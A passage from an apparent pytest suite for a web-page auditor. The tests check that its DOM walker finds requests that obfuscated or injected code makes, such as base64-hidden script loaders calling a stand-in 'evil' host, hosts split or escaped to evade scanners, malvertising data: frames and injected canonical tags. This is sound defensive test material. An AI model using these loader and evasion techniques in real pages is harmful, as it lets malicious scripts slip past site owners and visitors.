    "var u = 'https://collect.test/c'; a.href = u; for (const u of list) { fetch(u); }",
    "var u = 'https://collect.test/c'; a.href = u;\nclass A { load(u) { fetch(u); } }",
])
def test_a_url_no_request_call_takes_is_no_request(script: str) -> None:
    assert found(f"<script>{script}</script>") == []


@pytest.mark.parametrize(("script", "expected"), [
    # a module's imports of the site's own files, resolved against the page
    ('<script type="module">import "./js/prebid.js";\nimport {init} from "/static/chartbeat.js";'
     '\nexport * from "../lib/ads.mjs"; import("/js/hotjar.js");</script>',
     ["https://news.example/a/js/prebid.js", "https://news.example/static/chartbeat.js",
      "https://news.example/lib/ads.mjs", "https://news.example/js/hotjar.js"]),
    # a classic script: a static import is a syntax error and loads nothing, `import()` loads
    ('<script>import {init} from "/static/chartbeat.js";</script>', []),
    ('<script>window.addEventListener("load", () => import("./ads.js"));</script>',
     ["https://news.example/a/ads.js"]),
    # a bare specifier loads only through an import map (which names its URL); a method
    # named `from` and a string that says `import` are no imports
    ('<script type="module">import {h} from "preact"; Array.from("/x.js"); '
     'var s = "import /y.js";</script>', []),
    # an import in a comment, or in a string's prose, loads nothing; one after a comment,
    # a line break or a keyword that takes an expression does
    ("<script>// lazy: import('./legacy/polyfills.js') when needed\n/* import('/js/old.js') */"
     "\nvar help = \"load it with import('/js/feature.js') or a static import from "
     "'/js/x.js'\";</script>", []),
    ('<script type="module">/* app */ import "/js/app.js"\nimport {\n  a\n} from "./a.js"\n'
     "async function f() { return import('./b.js'); } var u = 'https://cdn.example/';"
     ' await import("./c.js");</script>',
     ["https://news.example/js/app.js", "https://news.example/a/a.js",
      "https://news.example/a/b.js", "https://news.example/a/c.js"]),
    # nor a static import in a comment, or a `from '…'` in a string (a help text's)
    ('<script type="module">// import "./old-tracker.js"\nconst help = "Drop files or '
     "pick them from '/uploads/'\";\nimport {init} from './app.js';</script>",
     ["https://news.example/a/app.js"]),
    # a string's glob or MIME type is no comment's opening
    ("<script type=\"module\">input.accept = 'image/*'; router.get('/api/*', h);\n"
     "const up = await import('./uploader.js');</script>", ["https://news.example/a/uploader.js"]),
])
def test_a_modules_relative_import_is_a_request(script: str, expected: list[str]) -> None:
    """A site may serve a vendor's loader itself and import it from a module: the browser
    requests the specifier resolved against the page, so the loader is named by its file
    as a `<script src>` to it is."""
    assert found(script, "https://news.example/a/b.html") == [
        (url, T.SCRIPT, "inline-script") for url in expected]


@pytest.mark.parametrize("script", [
    's.src="https:\\/\\/a.magsrv.com\\/x.js";',  # JSON's escaped slashes (json_encode)
    'document.write("<script src=\\"https:\\/\\/a.magsrv.com\\/x.js\\"><\\/script>");',
    's.src="https://"+"a.magsrv.com"+"/x.js";',  # a host split into literals
    "s.src='https:/' + '/a.magsrv.com/x.js';",
    's.src="https://a.magsrv.com/x.js?a\\x3d1\\u0026b\\x3d2".split("?")[0];',
    's.src="https://a.magsrv.com/x.js?e=\\ud83d\\ude00\\ud83d";',  # a pair, a lone half
    "s.src='https' + '://a.magsrv.com/x.js';",  # the scheme split from the rest
    "s.src='htt' + 'ps://a.magsrv.com/x.js';",
    "s.src='https://a.mag\\x73rv.com/x.js';",  # one letter of the host escaped
    "s.src='\\x68ttps://a.magsrv.com/x.js';",
    "s.src='https:\\u002F\\u002Fa.magsrv.com\\u002Fx.js';",  # a few escaped slashes
])
def test_a_loader_written_as_scripts_escape_or_split_it_is_a_request(script: str) -> None:
    """PHP's json_encode writes every `/` as `\\/`, an injection splits a host into
    literals to pass a scan, and scripts escape `=` and `&` as `\\x3d`, `\\u0026`: the
    URL the browser requests is read."""
    ((url, kind, _),) = found(f"<script>{script}</script>")
    assert (url.split("?")[0], kind) == ("https://a.magsrv.com/x.js", T.SCRIPT)
    assert "\\" not in url


@pytest.mark.parametrize("script", [
    # the URL named by a plain literal too, then loaded by the code base64 hides
    'var home = "https://cdn.evil.example/p"; eval(atob("' + base64.b64encode(
        b"var s=document.createElement('script');s.src='https://cdn.evil.example/p';"
        b"document.head.appendChild(s);").decode() + '"));',
    # every character escaped, loaded through a variable the decoder follows to `s.src`
    'var u = "' + "".join(f"\\x{ord(c):02x}" for c in "https://cdn.evil.example/p")
    + '"; var s = document.createElement("script"); s.src = u;',
])
def test_a_url_a_literal_only_names_is_loaded_where_the_decoder_shows_it(script: str) -> None:
    """A literal that names a URL without loading it must not hide the request the
    decoder finds for the same URL (both pages passed `deny_hosts` for a while)."""
    page = parse_page(f"<script>{script}</script>")
    loaded = [(f.url, f.type) for f in walk(page.root, BASE, page) if f.assigned]
    assert ("https://cdn.evil.example/p", T.SCRIPT) in loaded


_PATH_B64 = base64.b64encode(b"/js/a.js").decode()  # "L2pzL2EuanM="


@pytest.mark.parametrize("script", [
    # a loader hiding its path in base64, joined to a literal host or to a variable
    # holding it (made-up host; the form of Sucuri's and Unit42's loader write-ups)
    f"s.src='https://cdn.statsline.test'+atob('{_PATH_B64}');",
    f'var host = "https://cdn.statsline.test"; s.src = host + atob("{_PATH_B64}");',
    f"var h='https://cdn.statsline.test';s.src=h+window.atob('{_PATH_B64}')+'?v='+Date.now();",
    "var h='https://cdn.statsline.test';s.src=h+'/js/a.js';",  # no atob: the variable read
])
def test_a_src_joined_from_a_constant_atob_piece_or_a_variable_is_a_request(script: str) -> None:
    """`s.src = host + atob("L2pzL2EuanM=")` loads https://cdn.statsline.test/js/a.js: the
    constant is decoded (nothing runs) and the variable's literal joined to it; the
    variable's literal alone is no request."""
    code = f"<script>var s=document.createElement('script');{script}" \
           "document.head.appendChild(s);</script>"
    assert [(url.split("?")[0], kind) for url, kind, _ in found(code)] == [
        ("https://cdn.statsline.test/js/a.js", T.SCRIPT)]


@pytest.mark.parametrize("script", [
    f"x = atob('{_PATH_B64}');",  # decoded, joined to nothing: no address
    "var h='https://cdn.statsline.test'; if (h == location.origin) {}",  # compared, not loaded
    "var h='https://cdn.statsline.test'; s.src = h2 + '/js/a.js';",  # another name
])
def test_a_piece_joined_to_no_src_is_no_request(script: str) -> None:
    assert [u for u, _, _ in found(f"<script>{script}</script>")
            if u.endswith("/js/a.js")] == []


def test_an_address_in_markup_a_script_writes_is_read_as_markup() -> None:
    """`&amp;` in the markup a script writes (an app state's article HTML) is the `&` a
    browser requests; in a call's literal it is what the call sends."""
    assert found("<script>document.write('<iframe src=\"https://x.test/e?a=1&amp;b=2\">"
                 "</iframe>'); fetch('https://x.test/f?a=1&amp;b=2')</script>") == [
        ("https://x.test/e?a=1&b=2", T.SUBDOCUMENT, "inline-script"),
        ("https://x.test/f?a=1&amp;b=2", T.XMLHTTPREQUEST, "inline-script")]


def test_an_escaped_loader_is_found_once_with_the_decoder_reading_the_script_too() -> None:
    """A script escaping many characters is read by the decoder as well: the URL its
    literal names once its escapes are read is one request, not two."""
    html = ("<script>var t='\\u00e9\\u00e9\\u00e9\\u00e9\\u00e9'; var s=document.createElement("
            "'script'); s.src='https:\\u002F\\u002Fa.magsrv.com\\u002Fx.js';</script>")
    page = parse_page(html)
    assert [(f.url, f.via) for f in walk(page.root, BASE, page)] == [
        ("https://a.magsrv.com/x.js", "inline-script")]


@pytest.mark.parametrize(("html", "expected"), [
    ('<svg><image href="https://a.magsrv.com/i.png"/></svg>', T.IMAGE),
    ('<svg><image xlink:href="https://a.magsrv.com/i.png"/></svg>', T.IMAGE),
    ('<svg><filter><feImage href="https://a.magsrv.com/i.png"/></filter></svg>', T.IMAGE),
    ('<svg><script href="https://a.magsrv.com/x.js"></script></svg>', T.SCRIPT),
    ('<table><tr background="https://a.magsrv.com/i.png"><th>x</th></tr></table>', T.IMAGE),
    ('<table><tr><th background="https://a.magsrv.com/i.png">x</th></tr></table>', T.IMAGE),
    ('<meta http-equiv="refresh" content="0; https://a.magsrv.com/">', T.DOCUMENT),
    ('<p style="background:URL(https://a.magsrv.com/i.png)">x</p>', T.IMAGE),
    ('<style type="text/css; charset=utf-8">p{background:url(https://a.magsrv.com/i.png)}'
     '</style>', T.IMAGE),
    ('<link rel="preload" as="image" imagesrcset="https://a.magsrv.com/i.png 1x">', T.IMAGE),
    ('<iframe srcdoc=\'<base href="https://a.magsrv.com/"><script src="x.js"></script>\'>'
     '</iframe>', T.SCRIPT),
])
def test_what_svg_tables_refreshes_and_sheets_request(html: str, expected: T) -> None:
    """Each loaded a.magsrv.com in Chromium and was missed: SVG's image, filter image and
    script addresses, a row's or header cell's background, a refresh with no `url=`, CSS
    `URL(` in capitals, a sheet whose type names its charset, a preloaded image set, and
    a srcdoc document's own `<base>`."""
    assert [(host_of(u), t) for u, t, _ in found(html)] == [("a.magsrv.com", expected)]


_IMG_DOC = "<img src=https://a.magsrv.com/x.js>"
_SVG_DOC = '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://a.magsrv.com/x.js"/></svg>'


def _b64(text: str, codec: str = "utf-8") -> str:
    return base64.b64encode(text.encode(codec)).decode()


def _pct(text: str, codec: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode(codec))


@pytest.mark.parametrize(("html", "via"), [
    ('<iframe src="data:text/html,<script src=https://a.magsrv.com/x.js></script>"></iframe>',
     "iframe[src] data: script[src]"),
    ('<iframe src="data:text/html;base64,PHNjcmlwdCBzcmM9Imh0dHBzOi8vYS5tYWdzcnYuY29tL3guanMi'
     'Pjwvc2NyaXB0Pg=="></iframe>', "iframe[src] data: script[src]"),
    ('<script src="data:text/javascript,var s=document.createElement(\'script\');'
     's.src=\'https://a.magsrv.com/x.js\'"></script>', "script[src] data:"),
    ('<object data="data:text/html,<img src=https://a.magsrv.com/x.js>"></object>',
     "object[data] data: img[src]"),
    ('<link rel=stylesheet href="data:text/css,@import url(https://a.magsrv.com/x.js)">',
     "link[stylesheet] data: style-import"),
    ('<object data="data:text/html,<base href=https://a.magsrv.com/><script src=/x.js>'
     '</script>"></object>', "object[data] data: script[src]"),  # its own base
    ('<style>@import"https://a.magsrv.com/x.js";</style>', "style-import"),  # no space
    # an embed's document, as an object's (Chromium requested both)
    ('<embed src="data:text/html,<img src=https://a.magsrv.com/x.js>">',
     "embed[src] data: img[src]"),
    (f'<embed type="image/svg+xml" src="data:image/svg+xml;base64,{_b64(_SVG_DOC)}">',
     "embed[src] data: image[href]"),
    # read in the charset it names, after a BOM, as Chromium read each of these
    (f'<iframe src="data:text/html;charset=utf-16,{_pct(_IMG_DOC, "utf-16-le")}"></iframe>',
     "iframe[src] data: img[src]"),
    (f'<iframe src="data:text/html;charset=UTF-16BE;base64,{_b64(_IMG_DOC, "utf-16-be")}">'
     "</iframe>", "iframe[src] data: img[src]"),
    (f'<object data="data:text/html;base64,{_b64(chr(0xFEFF) + _IMG_DOC, "utf-16-le")}">'
     "</object>", "object[data] data: img[src]"),
    (f'<iframe src="data:text/html;charset=iso-2022-jp;base64,{_b64(_IMG_DOC, "iso-2022-jp")}">'
     "</iframe>", "iframe[src] data: img[src]"),
    ('<script src="data:text/javascript;charset=utf-16le;base64,'
     f'{_b64(_PIXEL.replace("px.test/p.gif", "a.magsrv.com/x.js"), "utf-16-le")}"></script>',
     "script[src] data:"),
])
def test_what_a_data_url_holds_is_walked(html: str, via: str) -> None:
    """Malvertising frames its ad in a `data:` document (no referrer, no page to scan):
    what the document, code or sheet in it requests is the page's request."""
    assert [(u, v) for u, _, v in found(html)] == [("https://a.magsrv.com/x.js", via)]


@pytest.mark.parametrize(("html", "via"), [  # each requested a.magsrv.com in Chromium 156
    ("""<div style='background:image-set("https://a.magsrv.com/x.png" 1x)'>x</div>""",
     "style-image-set"),
    ("""<div style="background:-webkit-image-set('https://a.magsrv.com/x.png' 1x)">x</div>""",
     "style-image-set"),
    ("""<style>p{background:image-set("/a.avif" type("image/avif"),
        "https://a.magsrv.com/x.png" type("image/png"))}</style>""", "style-image-set"),
    (r"<style>p{background:url(\68 ttps://a.magsrv.com/x.png)}</style>", "style-url"),
    (r"<style>p{background:u\72 l(https://a.magsrv.com/x.png)}</style>", "style-url"),
    (r'<p style="background:u\72 l(https://a.magsrv.com/x.png)">x</p>', "style-url"),
    (r'<style>p{background:url("\2f\2f a.magsrv.com/x.png")}</style>', "style-url"),
    (r"<style>p{background:url(//a\2emagsrv.com/x.png)}</style>", "style-url"),
    (r'<style>@import "\2f\2f a.magsrv.com/x.css";</style>', "style-import"),
    (r"<style>@im\70 ort url(//a.magsrv.com/x.css);</style>", "style-import"),
    ('<p style="background:Url(//a.magsrv.com/x.png)">x</p>', "style-url"),  # any case
])
def test_css_names_a_request_by_image_set_strings_and_escapes(html: str, via: str) -> None:
    """`image-set()` takes its candidates as strings too, and CSS reads escapes in any
    token (`u\72 l(` is `url(`): a gate that read `url(` as written passed them."""
    for page in (None, parse_page(html)):
        root = page.root if page is not None else parse_html(html)
        assert [(host_of(f.url), f.via) for f in walk(root, BASE, page)
                if f.url.startswith("https://a.")] == [("a.magsrv.com", via)], page


def test_an_escaped_quote_or_parenthesis_stays_inside_its_url() -> None:
    """An escape that spells a quote or a `(` does not end the url() or the string it is
    in, nor does an escaped `(` open a call."""
    assert [u for u, _, _ in found(r'<style>p{b:url("//a.magsrv.com/a\"b.png")}'
                                   r"q{b:url\28 //c.test/x)}</style>")] == [
        "https://a.magsrv.com/a%22b.png"]


@pytest.mark.parametrize(("html", "expected"), [  # what Chromium 156 requested
    ("<svg><style><img src=https://a.magsrv.com/x.js></style></svg>",
     [("https://a.magsrv.com/x.js", "svg style img[src]")]),
    ("<math><style><img src=https://a.magsrv.com/x.js></style></math>",
     [("https://a.magsrv.com/x.js", "math style img[src]")]),
    ("<svg><script><img src=https://a.magsrv.com/x.js></script></svg>",
     [("https://a.magsrv.com/x.js", "svg script img[src]")]),
    ("<svg><style>p{background:url(https://a.magsrv&#46;com/x.png)}</style></svg>",
     [("https://a.magsrv.com/x.png", "style-url")]),  # its references are read
    # HTML's raw text again under an integration point: nothing was requested
    ("<svg><foreignObject><style><img src=https://a.magsrv.com/x.js></style>"
     "</foreignObject></svg>", []),
    ("<math><mtext><style><img src=https://a.magsrv.com/x.js></style></mtext></math>", []),
    ("<style><img src=https://a.magsrv.com/x.js></style>", []),
])
def test_a_style_in_svg_or_mathml_holds_markup(html: str,
                                               expected: list[tuple[str, str]]) -> None:
    """HTML parses an SVG or MathML `<style>`'s (or `<script>`'s) text as markup, so an
    `<img>` there breaks out and loads; libxml2 keeps it as a sheet's text."""
    assert [(u, v) for u, _, v in found(html)] == expected


def test_a_data_document_in_a_charset_chromium_does_not_read_requests_nothing() -> None:
    """Chromium requested nothing from a UTF-16 document with no BOM nor charset, nor
    from one in a charset outside the Encoding Standard (cp037): the walk neither."""
    doc = "<img src=https://a.magsrv.com/x.js>"
    for head, enc in (("data:text/html;base64,", "utf-16-le"),
                      ("data:text/html;charset=cp037;base64,", "cp037")):
        src = head + base64.b64encode(doc.encode(enc)).decode()
        assert found(f'<iframe src="{src}"></iframe>') == []
    # windows-1252 bytes of a host are what Chromium requests (punycoded), not UTF-8's
    assert [host_of(u) for u, _, _ in found(
        '<iframe src="data:text/html;charset=windows-1252,'
        '<img src=https://%E2%93%9Cagsrv.com/x>"></iframe>')] == ["xn--agsrv-2qa50fr42q.com"]


_FULL_WIDTH = "\uff4d\uff41\uff47\uff53\uff52\uff56"  # ｍａｇｓｒｖ, requested as magsrv


@pytest.mark.parametrize(("doc", "host"), [  # what Chromium 156 requested from each
    # no `;charset=`: the document's own `<meta>` decides (koi8-r \xc1 is а, Cyrillic)
    ('data:text/html,<meta charset=koi8-r><img src="http://%C1ds.example/a.gif">',
     "xn--ds-6kc.example"),
    ('data:text/html,<meta http-equiv="Content-Type" content="text/html; charset=koi8-r">'
     '<img src="http://%C1ds.example/a.gif">', "xn--ds-6kc.example"),
    # past the first 1,024 bytes while only text came before it, the meta still holds
    ('data:text/html,' + "x" * 5000 + '<meta charset=koi8-r><img src="http://%C1ds.example/a">',
     "xn--ds-6kc.example"),
    # a `;charset=` wins over the meta (windows-1252 \xc1 is Á)
    ('data:text/html;charset=windows-1252,<meta charset=koi8-r>'
     '<img src="http://%C1ds.example/a.gif">', "xn--ds-lia.example"),
    # a declared charset holds whatever bad bytes the document has: Shift_JIS's, UTF-8's
    ("data:text/html,<meta charset=shift_jis><p>%85%FF%A0</p><img src=\"http://"
     + "".join(f"%{b:02X}" for b in _FULL_WIDTH.encode("cp932")) + '.example/s.gif">',
     "magsrv.example"),
    ("data:text/html,<meta charset=utf-8><p>" + "%E9" * 10 + '</p><img src="http://'
     + "".join(f"%{b:02X}" for b in _FULL_WIDTH.encode()) + '.example/u.gif">',
     "magsrv.example"),
], ids=["meta", "http-equiv", "late-meta", "charset-param-wins", "shift-jis-bad-bytes",
        "utf-8-bad-bytes"])
def test_a_data_document_is_read_in_the_charset_chromium_reads_it(doc: str, host: str) -> None:
    """A `data:` document with no `;charset=` is read in its own `<meta>` charset, bad
    bytes replaced: the walk fell back to cp1252 when the declared codec met one bad
    byte, and lost a full-width host that Chromium requested."""
    assert [host_of(u) for u, _, _ in found(f"<iframe src='{doc}'></iframe>")] == [host]


def test_a_bad_byte_in_a_data_documents_declared_utf8_is_replaced() -> None:
    """`caf\\xe9` under a declared UTF-8 is no host: Chromium requested only ok.example."""
    doc = ('data:text/html,<meta charset=utf-8><img src="http://caf%E9.example/d.gif">'
           '<img src="http://ok.example/d.gif">')
    assert [u for u, _, _ in found(f"<iframe src='{doc}'></iframe>")] == [
        "http://ok.example/d.gif"]


_DATA_DOC = ('<img src="/rel1.gif"><img src="rel2.gif"><img src="//proto.example/p.gif">'
             '<img src="http://abs.example/a.gif"><link rel=stylesheet href="s.css">'
             '<script src="j.js"></script><iframe src="f.html"></iframe>'
             '<div style="background:url(bg.png)">x</div><a ping="/ping" href="/x">x</a>'
             '<script>new Image().src="/js.gif"; new Image().src="http://abs.example/j.gif"'
             "</script><iframe srcdoc=\"<img src=rel.gif><img src=http://abs.example/s.gif>\">"
             "</iframe>")


@pytest.mark.parametrize(("html", "expected"), [  # what Chromium 156 requested
    ('<iframe src="data:text/html;base64,{}"></iframe>',
     ["http://abs.example/a.gif", "http://abs.example/j.gif", "http://abs.example/s.gif"]),
    ('<embed type="text/html" src="data:text/html;base64,{}">',
     ["http://abs.example/a.gif", "http://abs.example/j.gif", "http://abs.example/s.gif"]),
    ('<object type="text/html" data="data:text/html;base64,{}"></object>',
     ["http://abs.example/a.gif", "http://abs.example/j.gif", "http://abs.example/s.gif"]),
    ('<iframe src="data:text/html,<base href=http://base.example/d/><img src=r.gif>'
     '<img src=/r.gif>"></iframe>{}', ["http://base.example/d/r.gif", "http://base.example/r.gif"]),
    ('<iframe src="data:text/html,<base href=/other/><img src=r.gif>'
     '<img src=http://abs.example/b.gif>"></iframe>{}', ["http://abs.example/b.gif"]),
    ('<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/'
     "2000/svg'><image href='r.png'/><image href='http://abs.example/i.png'/></svg>\">"
     "</object>{}", ["http://abs.example/i.png"]),
    # a srcdoc document's base is its parent's: the page's, here
    ('<iframe srcdoc="<img src=rel.gif>"></iframe>{}', ["https://site.test/dir/rel.gif"]),
])
def test_a_data_documents_relative_urls_request_nothing(html: str, expected: list[str]) -> None:
    """A `data:` document's base URL is its own opaque URL: Chromium requested only its
    absolute URLs (and what an absolute `<base href>` makes of the rest), where the walk
    resolved `/rel1.gif` against the page and reported site.test and proto.example."""
    html = html.format(base64.b64encode(_DATA_DOC.encode()).decode())
    assert [u for u, _, _ in found(html)] == expected


def test_an_import_map_and_speculation_rules_name_requests() -> None:
    """A module imported by name loads from where the import map maps it, and Chromium
    prefetches what speculation rules list: both loaded a.magsrv.com in a browser."""
    html = ('<script type="importmap">{"imports": {"lib": "https://a.magsrv.com/x.js"}}'
            '</script><script type="module">import "lib";</script>'
            '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
            '["https://a.magsrv.com/p"]}]}</script>')
    assert found(html) == [("https://a.magsrv.com/x.js", T.SCRIPT, "script[importmap]"),
                           ("https://a.magsrv.com/p", T.OTHER, "script[speculationrules]")]


def test_a_data_structures_images_and_pages_are_no_requests() -> None:
    """A page's state and a config name images and pages its code may or may not use;
    the code they configure (`.js`, `.css`) is loaded all the same, a `src` key (quoted
    or not) is an assignment, and an array's items or a ternary's branch are no
    object's values (a gate must not lose them)."""
    html = ('<script>window.__STATE__ = {"hero": {"url": "https://img.test/a/1200x800.jpg",'
            '"src": "https://img.test/a/600x400.jpg"},'
            ' "ads": {"scriptUrl": "https://ads.test/t.js"},'
            '"theme": {"sheet": "https://cdn.test/t.css"}};'
            "frame({src: 'https://cdn.test/frame.html'});"
            "var p = ['https://px.test/a.gif']; var q = m ? 'https://px.test/b.gif' : "
            "'https://px.test/c.gif';"
            'var i = new Image(); i.src = "https://px.test/p.gif";</script>')
    assert [u for u, _, _ in found(html)] == [
        "https://img.test/a/600x400.jpg", "https://ads.test/t.js", "https://cdn.test/t.css",
        "https://cdn.test/frame.html", "https://px.test/a.gif", "https://px.test/b.gif",
        "https://px.test/c.gif", "https://px.test/p.gif"]


def test_a_style_sheets_imports_and_urls_are_requests() -> None:
    """A `<style>` sheet requests what it `@import`s and its `url()`s (a font by its
    extension); a comment, a sheet of another type and a `url(` in text request nothing.
    An unclosed comment runs to the sheet's end."""
    html = ("<style>@import url(//fonts.googleapis.com/css?family=Lato); "
            "@import 'https://cdn.test/theme.css';"
            "/* .old { background: url(https://old.test/x.png) } */"
            "@font-face { src: url('/f/lato.woff2') format('woff2') }"
            ".hero { background-image: url(\"https://img.test/hero.jpg\") }"
            "/* url(https://never.test/a.png)</style>"
            "<style type='text/x-template'>.x { background: url(https://tpl.test/a.png) }</style>"
            "<p>url(https://text.test/a.png)</p>")
    assert found(html) == [
        ("https://fonts.googleapis.com/css?family=Lato", T.STYLESHEET, "style-import"),
        ("https://cdn.test/theme.css", T.STYLESHEET, "style-import"),
        ("https://site.test/f/lato.woff2", T.FONT, "style-url"),
        ("https://img.test/hero.jpg", T.IMAGE, "style-url"),
    ]


def test_many_unclosed_css_comments_cost_linear_time() -> None:
    import time

    from auditor.dom.walk import sheet_urls

    def seconds(n: int) -> float:
        assert list(sheet_urls("a{b:" + "url(" * n)) == []  # each read once, not to the end
        css = "/*" * n + "url(https://a.test/x.png)"
        start = time.perf_counter()
        assert list(sheet_urls(css)) == []
        css = "/**/url(https://a.test/x.png)" * n
        assert len(list(sheet_urls(css))) == n
        return time.perf_counter() - start

    # the fastest of three runs each: a loaded machine only ever slows a run down
    small, large = (min(seconds(n) for _ in range(3)) for n in (20_000, 80_000))
    assert large < 10 * max(small, 0.01), (small, large)


def test_many_literals_after_from_and_reversed_strings_cost_linear_time() -> None:
    """A reversed literal's opening quote is looked for no further back than a literal
    may open (each looked back to the script's start: 86 ms for 500 KB of tails), and an
    `import … from` back to its `import` only."""
    import time

    from auditor.dom.deobfuscate import decode_script
    from auditor.dom.inline_js import loaded_urls

    def seconds(n: int) -> float:
        start = time.perf_counter()
        assert len(list(loaded_urls("from'https://a.example.com/c'," * n))) == n
        decode_script('a".split("").reverse().join("")' * n)
        return time.perf_counter() - start

    # the fastest of three runs each: a loaded machine only ever slows a run down
    small, large = (min(seconds(n) for _ in range(3)) for n in (5_000, 20_000))
    assert large < 10 * max(small, 0.01), (small, large)


def test_joined_sources_cost_linear_time() -> None:
    """Each `src` joined to a variable asks one reading of the script's URL assignments:
    a search over all the code before each took 6 s on a 760 KB script of 20,000."""
    import time

    from auditor.dom.inline_js import loaded_urls

    def seconds(n: int) -> float:
        joined = "var h = 'https://cdn.a.test';\n" + "e.src = h + '/p.png';\n" * n
        start = time.perf_counter()
        assert len([url for url, _, _ in loaded_urls(joined) if url]) == n
        return time.perf_counter() - start

    assert_linear(seconds, 2_500, "joined sources", runs=3, floor=0.005)


def test_base_href_resolves_relative_urls() -> None:
    html = '<base href="https://cdn.test/root/"><script src="app.js"></script>'
    assert found(html) == [("https://cdn.test/root/app.js", T.SCRIPT, "script[src]")]


def test_lines_and_xpaths_point_at_the_element() -> None:
    html = "<html><body>\n<p>x</p>\n<div>\n  <script src='https://a.test/x.js'></script>\n</div></body></html>"
    root = parse_html(html)
    (item,) = list(walk(root, BASE))
    assert item.element.sourceline == 4
    assert root.getroottree().getpath(item.element) == "/html/body/div/script"


@pytest.mark.parametrize(
    ("html", "url"),
    [
        (
            '<link rel="canonical" href="https://c.test/a"><meta property="og:url" content="https://o.test/">',
            "https://c.test/a",
        ),
        ('<meta property="og:url" content="https://o.test/b">', "https://o.test/b"),
        # WP Automatic's canonical to the source, Yoast's og:url left at the post's own
        # address: the page is the copy at og:url, not the original it names
        ('<link rel="canonical" href="https://www.herald.co.uk/n/7">'
         '<meta property="og:url" content="https://feedhub.net/herald-7/">',
         "https://feedhub.net/herald-7/"),
        # one publisher's two suffixes, and an og:url on no public site, name no copy
        ('<link rel="canonical" href="https://www.bbc.co.uk/n/7">'
         '<meta property="og:url" content="https://www.bbc.com/n/7">', "https://www.bbc.co.uk/n/7"),
        ('<link rel="canonical" href="https://www.herald.co.uk/n/7">'
         '<meta property="og:url" content="https://herald.wpenginepowered.com/n/7">',
         "https://www.herald.co.uk/n/7"),
        # a republisher whose CMS kept the original's og:url beside its own canonical: its
        # template's feed and icon are on the canonical's site, none on og:url's, so it is
        # at its canonical (read at og:url, its own site was named the source it copies);
        # a copy whose feed is on og:url's site stays at og:url
        ('<link rel="alternate" type="application/rss+xml" href="https://www.ledger.test/feed/">'
         '<link rel="icon" href="https://www.ledger.test/favicon-32.png">'
         '<link rel="canonical" href="https://www.ledger.test/news/storm">'
         '<meta property="og:url" content="https://www.herald.co.uk/n/7">',
         "https://www.ledger.test/news/storm"),
        ('<link rel="alternate" type="application/rss+xml" href="https://feedhub.net/feed/">'
         '<link rel="canonical" href="https://www.herald.co.uk/n/7">'
         '<meta property="og:url" content="https://feedhub.net/herald-7/">',
         "https://feedhub.net/herald-7/"),
        ('<link rel="stylesheet" href="https://www.herald.co.uk/s.css">'
         '<link rel="alternate" type="application/rss+xml" href="https://feedhub.net/feed/">'
         '<link rel="canonical" href="https://www.herald.co.uk/n/7">'
         '<meta property="og:url" content="https://feedhub.net/herald-7/">',
         "https://feedhub.net/herald-7/"),
        ('<base href="https://b.test/">', "https://b.test/"),
        ("<p>nothing</p>", None),
        # a canonical or og:url in the content is someone's markup, not the publisher's
        # (an injected one named the attacker's host the page's own site)
        ("<html><head><title>Gazette</title></head><body><article><p>Ferry times.</p>"
         '<link rel="canonical" href="https://adsrv-qk7.example/"></article></body></html>', None),
        ("<html><head><title>Gazette</title></head><body><p>Ferry times.</p>"
         '<meta property="og:url" content="https://adsrv-qk7.example/"></body></html>', None),
        ('<html><head><title>Gazette</title></head><body><div id="x"></div>'
         '<link rel="canonical" href="https://adsrv-qk7.example/"><p>a</p></body></html>', None),
        ('<html><head><link rel="canonical" href="https://gazette.test/n/1"></head><body>'
         '<article><link rel="canonical" href="https://adsrv-qk7.example/"></article></body>',
         "https://gazette.test/n/1"),
        # a head the parser cut short at a stray frame: its title and canonical went to the
        # body, before the content, and are still the page's
        ('<html><head><meta charset="utf-8"><iframe src="https://x.test/f"></iframe>'
         '<title>Gazette</title><link rel="canonical" href="https://gazette.test/n/1">'
         "</head><body><article><p>Ferry times.</p></article></body></html>",
         "https://gazette.test/n/1"),
        # the stray frame and the canonical after it name one host: one injection, the
        # frame's host is not the page's site (its og:url after them too)
        ('<html><head><meta charset="utf-8"><iframe src="https://adsrv-qk7.example/x" '
         'width="0" height="0"></iframe><link rel="canonical" href="https://adsrv-qk7.example/">'
         "<title>Gazette</title></head><body><article><p>Ferry times.</p></article></body>"
         "</html>", None),
        ('<html><head><meta charset="utf-8"><iframe src="https://cdn.adsrv-qk7.example/x">'
         '</iframe><meta property="og:url" content="https://www.adsrv-qk7.example/">'
         "<title>Gazette</title></head><body><article><p>Ferry times.</p></article></body>"
         "</html>", None),
        # the site's own hidden frame first in its head (a consent frame) cuts it the same
        # way; its template's stylesheet and icon in a folder of the frame's site make that
        # site its home, so the canonical is the page's (was None: the frame read medium)
        ('<html><head><iframe src="https://www.gazette.test/consent/frame.html" '
         'style="display:none"></iframe><link rel="canonical" href="https://www.gazette.test/n/1">'
         '<title>Gazette</title><link rel="stylesheet" '
         'href="https://www.gazette.test/wp-content/themes/gazette/style.css"></head>'
         "<body><article><p>Ferry times.</p></article></body></html>",
         "https://www.gazette.test/n/1"),
        ('<html><head><iframe src="https://gazette.test/f.html" width="0" height="0"></iframe>'
         '<meta property="og:url" content="https://gazette.test/n/1"><link rel="icon" '
         'href="https://gazette.test/assets/icon-32.png"></head><body><article><p>Ferry times.'
         "</p></article></body></html>", "https://gazette.test/n/1"),
        # the injected blob's own file is no template: a script of its host (its payload),
        # a stylesheet at its root, a page address (shortlink, feed)
        ('<html><head><iframe src="https://adsrv-qk7.example/x" width="0" height="0"></iframe>'
         '<link rel="canonical" href="https://adsrv-qk7.example/"><script '
         'src="https://adsrv-qk7.example/js/p.js"></script><link rel="stylesheet" '
         'href="https://adsrv-qk7.example/s.css"><link rel="shortlink" '
         'href="https://adsrv-qk7.example/p/1"><title>Gazette</title></head>'
         "<body><article><p>Ferry times.</p></article></body></html>", None),
        # a frame of another host before the publisher's canonical leaves it the page's
        ('<html><head><meta charset="utf-8"><iframe src="https://adsrv-qk7.example/x">'
         '</iframe><link rel="canonical" href="https://adsrv-qk7.example/">'
         '<link rel="canonical" href="https://gazette.test/n/1"><title>Gazette</title></head>'
         "<body><article><p>Ferry times.</p></article></body></html>", "https://gazette.test/n/1"),
    ],
)
def test_declared_page_url_order(html: str, url: str | None) -> None:
    assert declared_page_url(parse_html(html)) == url


# A head holding its title, cut short by a plugin's stray `<div id="fb-root">` (Facebook's
# SDK root, which its docs put after `<body>`): the canonical and og:url after it are still
